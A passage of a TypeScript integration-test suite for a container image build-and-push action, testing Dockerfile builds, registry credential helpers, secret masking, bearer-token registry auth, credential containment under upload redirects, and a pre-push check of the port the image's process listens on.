      'build-args': `GO_IMAGE=${base.BASE_GOLANG}`,
      platforms: 'linux/amd64',
    });
    expect(r.errors).toBe('');
    expect(r.stdout).toContain('builder: podman');
    const layers = async (ref: string) =>
      JSON.parse(await skopeo(['inspect', '--tls-verify=false', '--raw', `docker://${ref}`])).layers.map(
        (l: { digest: string }) => l.digest,
      );
    expect(await layers(`${infra.REGISTRY}/acme/hello-podman:1.2.3`)).toEqual(
      await layers(`${infra.REGISTRY}/acme/hello-df:1.2.3`),
    );
  });

  test('multi-arch generated build pushed to the TLS + auth registry (FROM images from the plain one)', async () => {
    const r = await act({
      mode: 'dockerfile',
      image: `${infra.REGISTRY_TLS}/acme/hello-df`,
      'build-args': `GO_IMAGE=${base.BASE_GOLANG}`,
      platforms: 'linux/amd64,linux/arm64',
      'registry-username': infra.REGISTRY_USER!,
      'registry-password': infra.REGISTRY_PASSWORD!,
      'registry-ca': infra.REGISTRY_CA!,
    });
    expect(r.errors).toBe('');
    expect(r.outputs.platforms!.split(',').sort()).toEqual(['linux/amd64', 'linux/arm64']);
    expect(r.stdout.replace(`::add-mask::${infra.REGISTRY_PASSWORD}`, '')).not.toContain(
      infra.REGISTRY_PASSWORD,
    );
    const tls = [
      '--cert-dir',
      infra.REGISTRY_CERT_DIR!,
      '--creds',
      `${infra.REGISTRY_USER}:${infra.REGISTRY_PASSWORD}`,
    ];
    const raw = JSON.parse(
      await skopeo(['inspect', ...tls, '--raw', `docker://${infra.REGISTRY_TLS}/acme/hello-df:1.2.3`]),
    );
    expect(raw.mediaType).toBe('application/vnd.oci.image.index.v1+json');
    const listed = JSON.parse(
      await skopeo(['inspect', ...tls, `docker://${infra.REGISTRY_TLS}/acme/hello-df:1.2.3`]),
    );
    expect(listed.Digest).toBe(r.outputs.digest);
    const arm = raw.manifests.find(
      (m: { platform: { architecture: string } }) => m.platform.architecture === 'arm64',
    );
    const cfg = await inspectConfig(`${infra.REGISTRY_TLS}/acme/hello-df@${arm.digest}`, tls);
    expect(cfg.architecture).toBe('arm64');
    expect(cfg.config.Env).toContain('PORT=8080');
  });

  test('push: false writes the built image as an OCI layout; the digest output is the layout manifest', async () => {
    const out = join(mkdtempSync(join(tmpdir(), 'dm-df-out-')), 'layout');
    const r = await act({
      mode: 'dockerfile',
      image: 'ghcr.io/acme/hello',
      'build-args': `GO_IMAGE=${base.BASE_GOLANG}`,
      push: false,
      output: out,
    });
    expect(r.errors).toBe('');
    const inspected = JSON.parse(await skopeo(['inspect', `oci:${out}:1.2.3`]));
    expect(inspected.Digest).toBe(r.outputs.digest);
    expect(r.outputs.image).toBe(`${out}@${r.outputs.digest}`);
    expect(r.outputs.platforms).toBe('linux/amd64');
    expect(inspected.Labels['org.opencontainers.image.version']).toBe('1.2.3');
  });

  test('a FROM image that does not exist is reported at its FROM line before the builder runs', async () => {
    const r = await act({
      mode: 'dockerfile',
      image: `${infra.REGISTRY}/acme/nobase`,
      'build-args': `GO_IMAGE=${infra.REGISTRY}/nope/golang:1.0`,
    });
    expect(r.exitCode).toBe(1);
    const a = r.annotations.find((x) => x.level === 'error')!;
    expect(a.message).toContain(
      `Base image ${infra.REGISTRY}/nope/golang:1.0 (FROM \${GO_IMAGE}) does not exist in registry ${infra.REGISTRY}`,
    );
    expect(a.file).toMatch(/goship-docker-multistage\/Dockerfile$/);
    expect(a.line).toBe(6);
    expect(r.stdout).not.toContain('builder:');
  });

  test('a Dockerfile syntax error is reported at file:line before any build', async () => {
    const ws = mkdtempSync(join(tmpdir(), 'dm-df-'));
    cpSync(repo, ws, { recursive: true });
    writeFileSync(
      join(ws, 'Dockerfile'),
      'FROM scratch\nCOPY prebuilt/linux_amd64/hello /hello\nENTRYPONT ["/hello"]\n',
    );
    const r = await act({ mode: 'dockerfile', image: `${infra.REGISTRY}/acme/syntax` }, {}, ws);
    expect(r.exitCode).toBe(1);
    const a = r.annotations.find((x) => x.level === 'error')!;
    expect(a).toMatchObject({ file: 'Dockerfile', line: 3 });
    expect(a.message).toContain("unknown instruction 'ENTRYPONT'");
    expect(a.message).toContain('Did you mean ENTRYPOINT?');
    expect(r.stdout).not.toContain('builder:');
  });

  test('build-args vs ARG: warnings at the ARG line, or an error with strict: true', async () => {
    const ws = mkdtempSync(join(tmpdir(), 'dm-df-'));
    cpSync(repo, ws, { recursive: true });
    writeFileSync(
      join(ws, 'Dockerfile'),
      'ARG RUNTIME=scratch\nFROM ${RUNTIME}\nARG NEEDED\nCOPY prebuilt/linux_amd64/hello /hello\nENTRYPOINT ["/hello"]\n',
    );
    const strict = await act(
      { mode: 'dockerfile', image: `${infra.REGISTRY}/acme/args`, 'build-args': 'VERSON=1', strict: true },
      {},
      ws,
    );
    expect(strict.exitCode).toBe(1);
    expect(strict.errors).toContain('build-arg VERSON is passed but Dockerfile declares no ARG VERSON');
    expect(strict.annotations).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          level: 'error',
          file: 'Dockerfile',
          line: 3,
          message: expect.stringContaining('ARG NEEDED has no default'),
        }),
      ]),
    );
    const lax = await act(
      {
        mode: 'dockerfile',
        image: `${infra.REGISTRY}/acme/args`,
        'build-args': 'VERSON=1',
        platforms: 'linux/amd64',
      },
      {},
      ws,
    );
    expect(lax.errors).toBe('');
    expect(lax.annotations.filter((a) => a.level === 'warning').map((a) => a.message)).toEqual(
      expect.arrayContaining([expect.stringContaining('VERSON'), expect.stringContaining('ARG NEEDED')]),
    );
    expect(lax.outputs.digest).toMatch(/^sha256:/);
  });
});

describe('Docker credential helpers (docker-credential-goship-file, built from docker-credential-helpers)', () => {
  let helperDir: string;
  let store: string;
  const helperEnv = (config: object): NodeJS.ProcessEnv => {
    const cfgDir = mkdtempSync(join(tmpdir(), 'dm-credhelper-'));
    writeFileSync(join(cfgDir, 'config.json'), JSON.stringify(config));
    return {
      DOCKER_CONFIG: cfgDir,
      PATH: `${helperDir}:${process.env.PATH}`,
      GOSHIP_CREDENTIALS_FILE: store,
      NODE_EXTRA_CA_CERTS: infra.REGISTRY_CA,
    };
  };

  beforeAll(async () => {
    const { stdout } = await run(join(repoRoot, 'test/infra/registry/build-credential-helper'), []);
    helperDir = /^CREDENTIAL_HELPER_DIR=(.*)$/m.exec(stdout)![1]!;
    store = join(mkdtempSync(join(tmpdir(), 'dm-credstore-')), 'store.json');
    // Stored the way `docker login` stores them with a credsStore: the helper's own `store` command.
    const child = execFile(join(helperDir, 'docker-credential-goship-file'), ['store'], {
      env: { GOSHIP_CREDENTIALS_FILE: store },
    });
    child.stdin!.end(
      JSON.stringify({
        ServerURL: infra.REGISTRY_TLS,
        Username: infra.REGISTRY_USER,
        Secret: infra.REGISTRY_PASSWORD,
      }),
    );
    await new Promise((resolve, reject) =>
      child.on('exit', (c) => (c === 0 ? resolve(c) : reject(new Error(`store: ${c}`)))),
    );
  });

  test('credHelpers: the push and the base-image pull on the TLS registry use the helper; its secret is masked', async () => {
    const r = await act(
      {
        image: `${infra.REGISTRY_TLS}/acme/helper`,
        artifacts,
        platforms: 'linux/amd64',
        base: base.BASE_STATIC_TLS!,
        tags: 'helper',
      },
      helperEnv({ credHelpers: { [infra.REGISTRY_TLS!]: 'goship-file' } }),
    );
    expect(r.errors).toBe('');
    expect(r.masks).toContain(infra.REGISTRY_PASSWORD);
    expect(r.stdout.replace(`::add-mask::${infra.REGISTRY_PASSWORD}`, '')).not.toContain(
      infra.REGISTRY_PASSWORD,
    );
    const cfg = await inspectConfig(`${infra.REGISTRY_TLS}/acme/helper:helper`, tlsRegistryFlags());
    expect(cfg.config.Env).toContain('SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt');
  });

  test('credsStore with nothing for the registry, and no auths entry: the 401 lists the helper it asked', async () => {
    const r = await act(
      { image: `${infra.REGISTRY_TLS}/acme/helper`, artifacts, tags: 'x' },
      { ...helperEnv({ credsStore: 'goship-file' }), GOSHIP_CREDENTIALS_FILE: `${store}.empty` },
    );
    expect(r.exitCode).toBe(1);
    expect(r.errors).toMatch(/credsStore \(docker-credential-goship-file has nothing for 127\.0\.0\.1:\d+\)/);
  });

  test('a missing helper and a failing helper are named in the error', async () => {
    const missing = await act(
      { image: `${infra.REGISTRY_TLS}/acme/helper`, artifacts, tags: 'x' },
      helperEnv({ credHelpers: { [infra.REGISTRY_TLS!]: 'nope' } }),
    );
    expect(missing.exitCode).toBe(1);
    expect(missing.errors).toMatch(
      /Credential helper docker-credential-nope \(.*credHelpers\["127\.0\.0\.1:\d+"\]\) could not be run/,
    );
    const failing = await act(
      { image: `${infra.REGISTRY_TLS}/acme/helper`, artifacts, tags: 'x' },
      { ...helperEnv({ credsStore: 'goship-file' }), GOSHIP_CREDENTIALS_FILE: '' },
    );
    expect(failing.exitCode).toBe(1);
    expect(failing.errors).toMatch(
      /Credential helper docker-credential-goship-file \(.*credsStore\) failed .*GOSHIP_CREDENTIALS_FILE is not set/,
    );
  });
});

describe('credentials stay with their origin (real TLS registry behind a proxy that sends uploads elsewhere)', () => {
  test('upload Locations on another host get the blobs but never the registry password', async () => {
    const certs = dirname(infra.REGISTRY_CA!);
    const tlsOpts = {
      cert: readFileSync(join(certs, 'server.pem')),
      key: readFileSync(join(certs, 'server.key')),
    };
    const [realHost, realPort] = infra.REGISTRY_TLS!.split(':');
    const basic = `Basic ${Buffer.from(`${infra.REGISTRY_USER}:${infra.REGISTRY_PASSWORD}`).toString('base64')}`;
    const forward = (
      req: http.IncomingMessage,
      res: http.ServerResponse,
      headers: http.IncomingHttpHeaders,
      rewrite: (location: string) => string,
    ) => {
      const up = https.request(
        {
          host: realHost,
          port: Number(realPort),
          method: req.method,
          path: req.url,
          headers,
          ca: readFileSync(infra.REGISTRY_CA!),
        },
        (ur) => {
          const h = { ...ur.headers };
          if (typeof h.location === 'string') h.location = rewrite(h.location);
          res.writeHead(ur.statusCode ?? 502, h);
          ur.pipe(res);
        },
      );
      up.on('error', () => res.destroy());
      req.pipe(up);
    };
    // The foreign host: records what reaches it, and (as object storage with a presigned URL would)
    // authorizes the upload on its own, with credentials the client never had to send it.
    const foreignSeen: { method: string; authorization?: string }[] = [];
    const foreign = https.createServer(tlsOpts, (req, res) => {
      foreignSeen.push({ method: req.method!, authorization: req.headers.authorization });
      forward(req, res, { ...req.headers, host: infra.REGISTRY_TLS, authorization: basic }, (l) => l);
    });
    await new Promise<void>((r) => foreign.listen(0, '127.0.0.1', r));
    const foreignOrigin = `https://localhost:${(foreign.address() as { port: number }).port}`;
    // The registry front: passes everything through, but answers upload starts with a Location there.
    const frontSeen: { method: string; authorization?: string }[] = [];
    const front = https.createServer(tlsOpts, (req, res) => {
      frontSeen.push({ method: req.method!, authorization: req.headers.authorization });
      forward(req, res, { ...req.headers, host: infra.REGISTRY_TLS }, (l) =>
        req.method === 'POST'
          ? `${foreignOrigin}${new URL(l, 'https://x').pathname}${new URL(l, 'https://x').search}`
          : l,
      );
    });
    await new Promise<void>((r) => front.listen(0, '127.0.0.1', r));
    const frontAddr = `127.0.0.1:${(front.address() as { port: number }).port}`;
    const repoName = `acme/redirected-${Date.now()}`; // fresh: every blob is uploaded, none already there
    try {
      const r = await act({
        image: `${frontAddr}/${repoName}`,
        artifacts,
        platforms: 'linux/amd64',
        tags: `r${Date.now()}`,
        'registry-username': infra.REGISTRY_USER!,
        'registry-password': infra.REGISTRY_PASSWORD!,
        'registry-ca': infra.REGISTRY_CA!,
      });
      expect(r.errors).toBe('');
      expect(frontSeen.filter((x) => x.method === 'POST').every((x) => x.authorization === basic)).toBe(true);
      expect(foreignSeen.map((x) => x.method)).toContain('PUT');
      expect(foreignSeen.filter((x) => x.authorization !== undefined)).toEqual([]);
      const out = JSON.parse(
        await skopeo([
          'inspect',
          ...tlsRegistryFlags(),
          `docker://${infra.REGISTRY_TLS}/${repoName}@${r.outputs.digest}`,
        ]),
      );
      expect(out.Digest).toBe(r.outputs.digest);
    } finally {
      front.close();
      foreign.close();
    }
  });
});

describe('dockerfile: build-arg values never printed', () => {
  test('a failing build prints the builder command without build-arg values; the values still reach the build', async () => {
    const ws = mkdtempSync(join(tmpdir(), 'dm-df-'));
    cpSync(repo, ws, { recursive: true });
    const secret = `tok-${randomUUID()}`;
    const proxy = `http://proxy-${randomUUID()}.invalid:3128`;
    const hash = createHash('sha256').update(secret).digest('hex');
    // Exit 7 only when the value arrived intact: proves delivery without the value in any printed text.
    writeFileSync(
      join(ws, 'Dockerfile'),
      `FROM ${base.BASE_BUSYBOX}\nARG SECRET_TOKEN\nARG HTTP_PROXY\nRUN if [ "$(printf %s "$SECRET_TOKEN" | sha256sum | cut -c1-64)" = "${hash}" ]; then exit 7; else exit 9; fi\n`,
    );
    const r = await act(
      {
        mode: 'dockerfile',
        image: `${infra.REGISTRY}/acme/buildargs`,
        'build-args': `SECRET_TOKEN=${secret}\nHTTP_PROXY=${proxy}`,
        platforms: 'linux/amd64',
      },
      {},
      ws,
    );
    expect(r.exitCode).toBe(1);
    expect(r.errors).toContain('--build-arg SECRET_TOKEN ');
    expect(r.errors).toContain('--build-arg HTTP_PROXY=*** ');
    expect(r.errors).toMatch(/exited with code 7|exit status 7/);
    for (const text of [r.stdout, r.errors, JSON.stringify(r.annotations)]) {
      expect(text).not.toContain(secret);
      expect(text).not.toContain(proxy);
    }
  });
});

describe('dockerfile: build secrets', () => {
  test('secrets and netrc reach RUN --mount=type=secret; no layer, config or log line holds them', async () => {
    const ws = mkdtempSync(join(tmpdir(), 'dm-secret-'));
    cpSync(repo, ws, { recursive: true });
    const token = `tok-${randomUUID()}`;
    const password = `pw-${randomUUID()}`;
    const hash = createHash('sha256').update(token).digest('hex');
    writeFileSync(
      join(ws, 'Dockerfile'),
      [
        `FROM ${base.BASE_BUSYBOX}`,
        `RUN --mount=type=secret,id=token,required=true test "$(sha256sum < /run/secrets/token | cut -c1-64)" = "${hash}" && echo token-ok > /token-ok`,
        'RUN --mount=type=secret,id=netrc,target=/root/.netrc,required=true \\',
        '    grep -q "^machine mods.corp.example login ci password " /root/.netrc && echo netrc-ok > /netrc-ok',
        '',
      ].join('\n'),
    );
    const r = await act(
      {
        mode: 'dockerfile',
        image: `${infra.REGISTRY}/acme/secrets`,
        secrets: `token=${token}`,
        netrc: `machine mods.corp.example login ci password ${password}`,
        platforms: 'linux/amd64',
        'listening-check': 'false',
      },
      {},
      ws,
    );
    expect(r.errors).toBe('');
    expect(r.exitCode).toBe(0);
    const printed = r.stdout.replace(/^::add-mask::.*$/gm, '');
    for (const text of [printed, r.stderr, r.summary, JSON.stringify(r.outputs)]) {
      expect(text).not.toContain(token);
      expect(text).not.toContain(password);
    }
    // Every blob of the pushed image (layers unpacked, config, manifest): the RUNs ran, the values stayed out.
    const dir = mkdtempSync(join(tmpdir(), 'dm-secret-layout-'));
    await skopeo([
      'copy',
      '-q',
      '--src-tls-verify=false',
      `docker://${infra.REGISTRY}/acme/secrets@${r.outputs.digest}`,
      `oci:${dir}/l:s`,
    ]);
    const blobs = join(dir, 'l/blobs/sha256');
    let files = '';
    for (const name of readdirSync(blobs)) {
      const raw = readFileSync(join(blobs, name));
      const text = (raw[0] === 0x1f && raw[1] === 0x8b ? gunzipSync(raw) : raw).toString('latin1');
      expect(text).not.toContain(token);
      expect(text).not.toContain(password);
      files += text;
    }
    expect(files).toContain('token-ok');
    expect(files).toContain('netrc-ok');
  });

  test('a private module fetched inside the Dockerfile build with the netrc secret (and the server CA as a secret)', async () => {
    const password = `pw-${randomUUID()}`;
    const server = await startModuleServer({
      modules: [
        {
          path: 'goship.test/private/greet',
          version: 'v1.0.0',
          dir: join(repoRoot, 'test/fixtures/modules/greet'),
        },
      ],
      login: 'ci-bot',
      password,
    });
    try {
      // Outside the workspace: COPY . . must not take it into the image.
      const caFile = join(mkdtempSync(join(tmpdir(), 'dm-private-ca-')), 'ca.pem');
      writeFileSync(caFile, server.cert);
      // The user's own Dockerfile: module settings as build args, the credentials and the CA as secrets.
      const { ws } = checkout('test/fixtures/services/private', {
        tag: 'v1.0.0',
        edit: (dir) =>
          writeFileSync(
            join(dir, 'Dockerfile'),
            [
              'ARG GO_IMAGE',
              'FROM ${GO_IMAGE} AS build',
              'ARG GOPROXY GOPRIVATE GONOPROXY',
              'WORKDIR /src',
              'COPY . .',
              'RUN --mount=type=secret,id=netrc,target=/root/.netrc,required=true --mount=type=secret,id=ca,required=true \\',
              '    SSL_CERT_FILE=/run/secrets/ca CGO_ENABLED=0 GOFLAGS=-mod=readonly go build -trimpath -o /out/app .',
              'FROM scratch',
              'COPY --from=build /out/app /app',
              'ENTRYPOINT ["/app"]',
              '',
            ].join('\n'),
          ),
      });
      const r = await act(
        {
          mode: 'dockerfile',
          image: `${infra.REGISTRY}/acme/private`,
          'build-args': `GO_IMAGE=${base.BASE_GOLANG}\nGOPROXY=${server.url}\nGOPRIVATE=goship.test/*\nGONOPROXY=none`,
          netrc: `machine ${new URL(server.url).host} login ci-bot password ${password}`,
          'secret-files': `ca=${caFile}`,
          platforms: 'linux/amd64',
          'listening-check': 'false',
        },
        {},
        ws,
      );
      expect(r.errors).toBe('');
      expect(r.exitCode).toBe(0);
      const zip = server.requests.filter((q) => q.path.endsWith('/@v/v1.0.0.zip'));
      expect(zip.length).toBeGreaterThan(0);
      expect(zip.every((q) => q.authorized)).toBe(true);
      const printed = r.stdout.replace(/^::add-mask::.*$/gm, '');
      expect(printed).not.toContain(password);
    } finally {
      await server.close();
    }
  });

  test('a required secret mount without its secret fails at its Dockerfile line before the builder runs', async () => {
    const ws = mkdtempSync(join(tmpdir(), 'dm-secret-'));
    cpSync(repo, ws, { recursive: true });
    writeFileSync(
      join(ws, 'Dockerfile'),
      `FROM ${base.BASE_BUSYBOX}\nRUN --mount=type=secret,id=netrc,target=/root/.netrc,required=true true\n`,
    );
    const r = await act(
      { mode: 'dockerfile', image: `${infra.REGISTRY}/acme/secrets`, platforms: 'linux/amd64' },
      {},
      ws,
    );
    expect(r.exitCode).toBe(1);
    expect(r.errors).toContain(
      "Dockerfile:2 mounts the secret 'netrc' (required=true), but the secrets input gives none",
    );
    expect(r.annotations).toContainEqual(
      expect.objectContaining({ level: 'error', file: 'Dockerfile', line: 2 }),
    );
    expect(r.stdout).not.toMatch(/builder: (buildah|podman|docker)/);
  });
});

describe('registry client against the real registry (library level)', () => {
  afterAll(() => closeConnections());

  test('plain HTTP is refused for a registry not allowed to be insecure', async () => {
    const client = new RegistryClient({
      registry: infra.REGISTRY!,
      insecure: false,
      credentials: { searched: [] },
      attempts: 1,
    });
    await expect(client.hasBlob('lib/x', `sha256:${'0'.repeat(64)}`)).rejects.toThrow(
      /speaks plain HTTP; list it in insecure-registries/,
    );
  });

  test('chunked PATCH upload, HEAD skip, cross-repository mount, exact bytes back', async () => {
    const proxy = await faultProxy(infra.REGISTRY!, () => 'pass');
    try {
      const client = new RegistryClient({
        registry: proxy.addr,
        insecure: true,
        credentials: { searched: [] },
        monolithicLimit: 1 << 20,
        chunkSize: 256 << 10,
      });
      const data = randomBytes((1 << 20) + 12345);
      const digest = sha256(data);
      expect(await client.pushBlob('lib/chunked', digest, () => data)).toBe('uploaded');
      const patches = proxy.log.filter((l) => l.startsWith('PATCH '));
      expect(patches).toHaveLength(5); // 4 × 256 KiB + the rest
      expect(
        proxy.log.filter((l) => l.startsWith('PUT ') && l.includes(`digest=${encodeURIComponent(digest)}`)),
      ).toHaveLength(1);
      expect(await client.pushBlob('lib/chunked', digest, () => data)).toBe('exists');
      expect(await client.pushBlob('lib/other', digest, () => data, 'lib/chunked')).toBe('mounted');
      expect((await client.getBlob('lib/other', digest)).equals(data)).toBe(true);
    } finally {
      proxy.close();
    }
  });
});

/**
 * Bearer-token auth: a docker-registry in token mode (it verifies every token's signature, issuer, audience,
 * expiry and granted actions) and a small token issuer that signs ES256 JWTs with a certificate in the
 * registry's rootcertbundle, as a real token service does.
 */
describe('token auth (registry in token mode)', () => {
  let registryProcess: ChildProcess;
  let tokenServer: http.Server;
  let addr: string;
  const scopes: string[] = [];
  const user = 'alice';
  const password = 'wonderland-9f2c';

  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'dm-token-'));
    execFileSync(
      'openssl',
      [
        'req',
        '-x509',
        '-newkey',
        'ec',
        '-pkeyopt',
        'ec_paramgen_curve:P-256',
        '-nodes',
        '-days',
        '2',
        '-subj',
        '/CN=goship-test-issuer',
        '-keyout',
        join(dir, 'key.pem'),
        '-out',
        join(dir, 'cert.pem'),
      ],
      { stdio: 'ignore' },
    );
    const key = readFileSync(join(dir, 'key.pem'), 'utf8');
    const x5c = new X509Certificate(readFileSync(join(dir, 'cert.pem'))).raw.toString('base64');
    const b64u = (v: string | Buffer) => Buffer.from(v).toString('base64url');
    tokenServer = http.createServer((req, res) => {
      const url = new URL(req.url!, 'http://token');
      const [u, p] = Buffer.from((req.headers.authorization ?? '').replace(/^Basic /, ''), 'base64')
        .toString()
        .split(':');
      if (u !== user || p !== password) {
        res.writeHead(401, { 'Content-Type': 'application/json' });
        return res.end('{"details":"invalid username or password"}');
      }
      scopes.push(url.searchParams.getAll('scope').join(' '));
      const access = url.searchParams.getAll('scope').map((s) => {
        const [type, name, actions] = s.split(':');
        return { type, name, actions: actions!.split(',') };
      });
      const now = Math.floor(Date.now() / 1000);
      const head = b64u(JSON.stringify({ typ: 'JWT', alg: 'ES256', x5c: [x5c] }));
      const claims = b64u(
        JSON.stringify({
          iss: 'goship-test-issuer',
          sub: u,
          aud: url.searchParams.get('service'),
          exp: now + 300,
          nbf: now - 10,
          iat: now,
          jti: randomUUID(),
          access,
        }),
      );
      const signature = sign('sha256', Buffer.from(`${head}.${claims}`), { key, dsaEncoding: 'ieee-p1363' });
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ token: `${head}.${claims}.${b64u(signature)}` }));
    });
    await new Promise<void>((r) => tokenServer.listen(0, '127.0.0.1', r));
    const tokenPort = (tokenServer.address() as { port: number }).port;
    const port = await freePort();
    addr = `127.0.0.1:${port}`;
    mkdirSync(join(dir, 'data'));
    writeFileSync(
      join(dir, 'config.yml'),
      [
        'version: 0.1',
        'log: {level: error}',
        `storage: {filesystem: {rootdirectory: ${join(dir, 'data')}}}`,
        `http: {addr: '${addr}', secret: ${randomUUID()}}`,
        'auth:',
        '  token:',
        `    realm: http://127.0.0.1:${tokenPort}/token`,
        '    service: goship-test-registry',
        '    issuer: goship-test-issuer',
        `    rootcertbundle: ${join(dir, 'cert.pem')}`,
      ].join('\n'),
    );
    const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('REGISTRY_')));
    registryProcess = spawn('docker-registry', ['serve', join(dir, 'config.yml')], { env, stdio: 'ignore' });
    for (let i = 0; i < 100; i++) {
      if ((await get(`http://${addr}/v2/`).catch(() => ({ status: 0 }))).status === 401) return;
      await new Promise((r) => setTimeout(r, 50));
    }
    throw new Error('token-mode registry did not start');
  });

  afterAll(() => {
    registryProcess?.kill('SIGTERM');
    tokenServer?.close();
  });

  test('push with a bearer token; a base on the same registry is mounted with a two-repository scope', async () => {
    const creds = { 'registry-username': user, 'registry-password': password };
    const first = await act({
      image: `${addr}/base/app`,
      artifacts,
      platforms: 'linux/amd64',
      tags: 'v1',
      ...creds,
    });
    expect(first.errors).toBe('');
    expect(scopes).toEqual(
      expect.arrayContaining(['repository:base/app:pull', 'repository:base/app:pull,push']),
    );
    const second = await act({
      image: `${addr}/acme/on-base`,
      artifacts,
      platforms: 'linux/amd64',
      base: `${addr}/base/app:v1`,
      tags: 'x',
      ...creds,
    });
    expect(second.errors).toBe('');
    // one token for both repositories: push to the target, pull from the mount source
    expect(scopes).toContain('repository:acme/on-base:pull,push repository:base/app:pull');
    expect(second.summary).toMatch(/mounted/);
    const anonymous = await get(`http://${addr}/v2/acme/on-base/tags/list`);
    expect(anonymous.status).toBe(401); // the registry really enforces tokens
  });

  test('wrong password: the token endpoint refuses; the error names the registry and the credential source', async () => {
    const r = await act({
      image: `${addr}/acme/denied`,
      artifacts,
      platforms: 'linux/amd64',
      'registry-username': user,
      'registry-password': 'wrong-password-77',
    });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toContain(
      `Registry ${addr} rejected the credentials of user 'alice' from inputs registry-username/registry-password (token endpoint 127.0.0.1:`,
    );
    expect(r.stdout.replace('::add-mask::wrong-password-77', '')).not.toContain('wrong-password-77');
  });
});

/*
 * The listening check: the native image's entrypoint is started before the push, and the port its process
 * listens on must be the one the image declares. Real Go programs that every static check passes
 * (-X main.port=8080, ENV PORT=8080, EXPOSE 8080/tcp) but that listen elsewhere.
 */
describe('listening check (before the push)', () => {
  const PROGRAMS: Record<string, string> = {
    // The -X default is overwritten by the flag default before it is used: listens on 9090.
    flagport: `package main
import ("flag"; "net/http")
var port = "8080"
func main() {
	flag.StringVar(&port, "port", "9090", "listen port")
	flag.Parse()
	panic(http.ListenAndServe(":"+port, nil))
}`,
    // Reads a differently named variable (LISTEN_PORT, default 3000): every layer says PORT.
    envport: `package main
import ("net/http"; "os")
var port = "8080"
func main() {
	p := os.Getenv("LISTEN_PORT")
	if p == "" { p = "3000" }
	panic(http.ListenAndServe(":"+p, nil))
}`,
  };
  const native = process.arch === 'arm64' ? 'arm64' : 'amd64';
  const foreign = native === 'amd64' ? 'arm64' : 'amd64';

  /** A module with one program, committed, and its native binary built as go-build-ldflags builds it. */
  async function program(name: string): Promise<{ dir: string; artifacts: string }> {
    const dir = mkdtempSync(join(tmpdir(), `dm-${name}-`));
    writeFileSync(join(dir, 'go.mod'), `module example.com/${name}\n\ngo 1.22\n`);
    writeFileSync(join(dir, 'main.go'), `${PROGRAMS[name]}\n`);
    writeFileSync(join(dir, '.gitignore'), 'prebuilt/\n');
    git(['init', '-q', '-b', 'main'], dir);
    git(['add', '.'], dir);
    git(['commit', '-q', '-m', name], dir);
    git(['tag', 'v1.2.3'], dir);
    const rev = git(['rev-parse', 'HEAD'], dir);
    const { ldflags } = composeLdflags({
      inject: [
        { name: 'main.version', value: '1.2.3' },
        { name: 'main.commit', value: rev },
        { name: 'main.port', value: '8080' },
      ],
    });
    const out = join(dir, 'prebuilt', name);
    await run('go', ['build', '-trimpath', `-ldflags=${ldflags}`, '-o', out, '.'], {
      cwd: dir,
      env: { ...process.env, CGO_ENABLED: '0', GOOS: 'linux', GOARCH: native, GOFLAGS: '-buildvcs=false' },
    });
    const sha256 = createHash('sha256').update(readFileSync(out)).digest('hex');
    return {
      dir,
      artifacts: JSON.stringify([
        { name, os: 'linux', arch: native, path: out, sha256, ldflags, injected: {} },
      ]),
    };
  }

  /** The registry knows no tag of the repository (nothing was pushed under a name). */
  async function tagsOf(repository: string): Promise<number> {
    const res = await get(`http://${infra.REGISTRY}/v2/${repository}/tags/list`);
    return res.status;
  }

  test('a correct image passes: listening-port is the declared port, in the outputs, json and summary', async () => {
    const r = await act({
      image: `${infra.REGISTRY}/acme/listen-ok`,
      artifacts,
      'listening-check': 'true',
    });
    expect(r.errors).toBe('');
    expect(r.exitCode).toBe(0);
    expect(r.outputs['listening-port']).toBe('8080');
    expect(JSON.parse(r.outputs.json!)['listening-port']).toBe(8080);
    const meta = JSON.parse(r.outputs.metadata!);
    expect(meta.listening).toMatchObject({
      status: 'passed',
      platform: `linux/${native}`,
      port: 8080,
      ports: [8080],
      declaredBy: ['ENV PORT', 'EXPOSE 8080/tcp', 'input port'],
      command: ['/usr/local/bin/hello'],
    });
    expect(r.summary).toMatch(/Listening check \| linux\/\w+: the process listens on `8080`/);
  });

  test('assemble (User 65532:65532): the process runs as that user (resolved in the image /etc/passwd), said in metadata and summary', async () => {
    const r = await act({
      image: `${infra.REGISTRY}/acme/listen-user`,
      artifacts,
      'listening-check': 'true',
    });
    expect(r.errors).toBe('');
    const meta = JSON.parse(r.outputs.metadata!);
    expect(meta.listening).toMatchObject({ status: 'passed', port: 8080, user: 'nonroot (65532:65532)' });
    expect(r.stdout).toContain('as nonroot (65532:65532) in a');
    expect(r.summary).toContain(`as nonroot (65532:65532) in ${meta.listening.isolation}`);
    expect(meta.listening.isolation).toMatch(/runc sandbox/);
  });

  test('dockerfile (buildah): a root-owned 0700 binary with USER 65532 fails: permission denied naming the user and the path; no tag', async () => {
    const ws = mkdtempSync(join(tmpdir(), 'dm-listen-0700-'));
    cpSync(repo, ws, { recursive: true });
    writeFileSync(
      join(ws, 'Dockerfile'),
      `FROM scratch\nCOPY --chmod=0700 prebuilt/linux_${native}/hello /hello\nENV PORT=8080\nEXPOSE 8080\nUSER 65532\nENTRYPOINT ["/hello"]\n`,
    );
    const r = await act(
      { mode: 'dockerfile', image: `${infra.REGISTRY}/acme/listen-0700`, platforms: `linux/${native}` },
      {},
      ws,
    );
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toContain('builder: buildah');
    // A numeric USER without a group and no /etc/passwd: gid 0, as runc does.
    expect(r.errors).toContain(
      "The image's process cannot start: user 65532:0 cannot execute /hello (mode 0700, owned by 0:0)",
    );
    expect(r.errors).toContain('permission denied');
    expect(r.errors).not.toContain('never listen');
    expect(await tagsOf('acme/listen-0700')).toBe(404);
  });

  test('a flag default that overwrites the -X port: fails before the push with both ports; no tag in the registry', async () => {
    const p = await program('flagport');
    const r = await act(
      { image: `${infra.REGISTRY}/acme/listen-flagport`, artifacts: p.artifacts },
      {},
      p.dir,
    );
    expect(r.exitCode).toBe(1);
    expect(r.errors).toContain(
      'The image declares port 8080 (ENV PORT, EXPOSE 8080/tcp, input port) but its process listens on 9090',
    );
    expect(r.errors).toMatch(/:::9090|0\.0\.0\.0:9090/);
    expect(r.errors).toContain('Nothing was pushed');
    expect(await tagsOf('acme/listen-flagport')).toBe(404);
  });

  test('the same image with listening-check: false is pushed (the check is what stopped it)', async () => {
